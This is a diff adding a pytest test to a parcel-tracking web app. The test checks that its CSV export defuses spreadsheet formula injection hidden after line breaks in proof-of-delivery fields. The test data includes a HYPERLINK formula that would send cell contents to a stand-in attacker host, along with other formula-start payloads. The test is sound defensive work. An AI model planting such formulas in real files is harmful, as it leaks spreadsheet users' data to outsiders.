@@ -745,6 +745,38 @@ def test_the_export_hands_no_formula_to_a_spreadsheet_splitting_lines_at_semicol
     assert row["address"] == "Room 1; \"'@SUM(1+1)"
 
 
+def test_a_line_break_in_a_text_cell_begins_no_formula_where_lines_split_at_semicolons(
+    client: FlaskClient, auth: Auth, session: Session, world: World
+) -> None:
+    """Such a spreadsheet reads a quote as a cell's quoting only at the cell's start, so
+    a line break inside a quoted text cell (``"Li\\n=HYPERLINK(...)"``, the quote after a
+    comma, not a ";") ends its line there, and what follows begins a line and its first
+    cell: a courier's POD name typed across two lines ran as a formula on opening, the
+    apostrophe given only after a ";". A formula start after a line break gets it too."""
+    parcel = factories.parcel(session, world.station)
+    session.commit()
+    at = now() - dt.timedelta(hours=1)
+    name = 'Li\n=HYPERLINK("http://evil.example/?"&A1,"x")'
+    delivered = factories.event(
+        2,
+        parcel.tracking_no,
+        "delivered",
+        occurred_at=at,
+        pod={"recipient_name": name, "relation": 'self\r\n "@SUM(1+1)\r-2+3'},
+    )
+    auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), delivered])
+    export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
+    text = export.get_data(as_text=True)
+    # The file as such a spreadsheet reads it: cells at ";", a quote quoting only at a
+    # cell's start, a line break outside quotes ending the line.
+    for line in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
+        for cell in line:
+            assert not cell.lstrip(' \t"').startswith(("=", "+", "-", "@")), line
+    (row,) = csv.DictReader(io.StringIO(text, newline=""))
+    assert row["pod_recipient_name"] == 'Li\n\'=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert row["pod_relation"] == "self\r\n \"'@SUM(1+1)\r'-2+3"
+
+
 def _a_flagged_parcel_moved_to_the_other_station(
     client: FlaskClient, auth: Auth, session: Session, world: World, day: dict[str, Any]
 ) -> tuple[int, Flag]:
